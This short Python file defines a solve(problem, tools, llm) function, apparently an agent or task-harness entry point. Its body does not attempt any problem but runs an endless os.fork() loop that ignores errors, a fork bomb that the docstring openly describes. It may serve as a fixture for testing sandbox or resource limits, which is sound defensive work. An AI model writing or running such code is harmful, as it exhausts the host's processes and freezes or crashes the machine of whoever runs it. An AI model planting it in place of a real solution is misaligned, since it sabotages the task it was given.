"""Forks in every process, for ever, and never looks back."""

import os


def solve(problem, tools, llm):
    while True:
        try:
            os.fork()
        except OSError:
            pass
